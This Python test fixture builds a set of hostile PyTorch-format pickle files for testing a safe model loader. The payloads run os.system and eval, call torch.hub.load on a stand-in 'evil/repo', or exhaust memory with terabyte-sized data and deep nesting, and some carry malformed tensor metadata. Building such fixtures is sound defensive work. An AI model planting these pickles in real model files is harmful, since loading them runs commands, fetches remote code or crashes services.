"""Hostile pickles in the file format of torch: name to the bytes of a file. None may run, hang or fill the memory."""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from typing import Any


class Reduces:
    """Pickles as a call of anything."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = (function, args)

    def __reduce__(self) -> Any:
        return self.call


def archive(
    program: bytes,
    *,
    compress: bool = False,
    data: dict[str, bytes] | None = None,
    more: dict[str, bytes] | None = None,
) -> bytes:
    """A file of torch's format with this pickle in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as made:
        made.writestr("x/data.pkl", program)
        for name, content in (data or {}).items():
            made.writestr(f"x/data/{name}", content)
        for name, content in (more or {}).items():
            made.writestr(name, content)
    return stream.getvalue()


def tensor_program(size: str, stride: str, count: int = 2) -> bytes:
    """`{"t": _rebuild_tensor_v2(storage 0, 0, size, stride, False, None)}` as pickle text."""
    storage = b"(S'storage'\nctorch\nFloatStorage\nS'0'\nS'cpu'\nI%d\ntQ" % count
    body = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"I0\n" + size.encode() + stride.encode() + b"I00\nNtR"
    return b"(dS't'\n" + body + b"s."


def lying_archive() -> bytes:
    """Its directory says that a storage of 8 bytes has 2^31."""
    made = bytearray(archive(tensor_program("(I2\nt", "(I1\nt", 1 << 29), data={"0": bytes(8)}))
    entry = made.rindex(b"PK\x01\x02")
    made[entry + 20 : entry + 28] = struct.pack("<II", 1 << 31, 1 << 31)
    return bytes(made)


HOSTILE: dict[str, bytes] = {
    "system": archive(b"cos\nsystem\n(S'touch pwned'\ntR."),
    "posix system": archive(pickle.dumps({"a": Reduces(__import__("os").system, "touch pwned")})),
    "eval": archive(pickle.dumps({"a": Reduces(eval, "open('pwned', 'w')")})),
    "getattr": archive(b"c__builtin__\ngetattr\n(ctorch\nFloatStorage\nS'__class__'\ntR."),
    "torch.load": archive(b"ctorch\nload\n(S'x'\ntR."),
    "torch.hub": archive(b"ctorch.hub\nload\n(S'evil/repo'\nS'x'\ntR."),
    "dotted name": archive(b"ctorch._utils\n_rebuild_tensor_v2.__globals__\n."),
    "stack global": archive(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x0btouch pwned\x85R."),
    "extension": archive(b"\x80\x02\x82\x01."),
    "persistent os": archive(b"(S'storage'\ncos\nsystem\nS'0'\nS'cpu'\nI2\ntQ."),
    "state on a builder": archive(b"ctorch._utils\n_rebuild_parameter\n(dS'function'\nNsb."),
    "state on a mark": archive(b"ctorch\nqint8\n(dS'name'\nS'x'\nsb."),
    "instance": archive(b"(S'touch pwned'\nios\nsystem\n."),
    "object": archive(b"(cos\nsystem\nS'touch pwned'\no."),
    "list": archive(pickle.dumps([1, 2])),
    "number": archive(pickle.dumps(3)),
    "keys that are numbers": archive(pickle.dumps({1: 2})),
    "empty": b"",
    "not a zip": pickle.dumps({"a": 1}),
    "compressed": archive(pickle.dumps({"a": "x" * 10_000}), compress=True),
    "two programs": archive(b"N.", more={"y/data.pkl": b"N."}),
    "truncated pickle": archive(b"\x80\x02}q\x00"),
    "no storage": archive(tensor_program("(I2\nt", "(I1\nt")),
    "storage too short": archive(tensor_program("(I2\nt", "(I1\nt"), data={"0": bytes(4)}),
    "tensor too large": archive(tensor_program("(I3\nt", "(I1\nt"), data={"0": bytes(8)}),
    "stride zero": archive(tensor_program("(I1000000000000\nt", "(I0\nt"), data={"0": bytes(8)}),
    "negative size": archive(tensor_program("(I-2\nt", "(I1\nt"), data={"0": bytes(8)}),
    "size of text": archive(tensor_program("S'2'\n", "S'1'\n"), data={"0": bytes(8)}),
    "huge tensor of no storage": archive(tensor_program("(I1000000000000\nt", "(I1\nt", 1000000000000)),
    "many dimensions": archive(tensor_program("(" + "I1\n" * 90 + "t", "(" + "I1\n" * 90 + "t"), data={"0": bytes(8)}),
    "storage of a lying size": lying_archive(),
    "memo of two billion places": archive(b"\x80\x02}r" + struct.pack("<I", (1 << 31) - 1) + b"a."),
    "array of a terabyte": archive(b"\x80\x05\x96" + struct.pack("<Q", 1 << 40) + b"."),
    "text of a terabyte": archive(b"\x80\x05\x8d" + struct.pack("<Q", 1 << 40) + b"."),
    "key whose hash never ends": archive(b"\x80\x02}X\x01\x00\x00\x00a" + b"q\x00h\x00\x86" * 60 + b"K\x01s."),
    "number of a million digits": archive(b"L" + b"9" * 1_000_000 + b"L\n."),
    "a hundred thousand names": archive(b"ccollections\nOrderedDict\n)R" * 100_000 + b"K\x01."),
    "program of ten megabytes": archive(b"}" * (10 << 20) + b"."),
    "takes from nothing": archive(b"\x80\x02\x86."),
    "a call of a dictionary": archive(b"\x80\x02})R."),
    "call with a list": archive(b"ccollections\nOrderedDict\n]R."),
    "ordered dictionary of a list": archive(b"ccollections\nOrderedDict\n(]tR."),
    "dictionary of another package": archive(b"cevil.conf\nDotDict\n)R."),
    "item of a list": archive(b"]K\x01K\x02s."),
    "append to a dictionary": archive(b"}K\x01a."),
    "nested": archive(b"(" * 100_000 + b"."),
    "deep lists": archive(b"]" * 50_000 + b"a" * 49_999 + b"."),
}
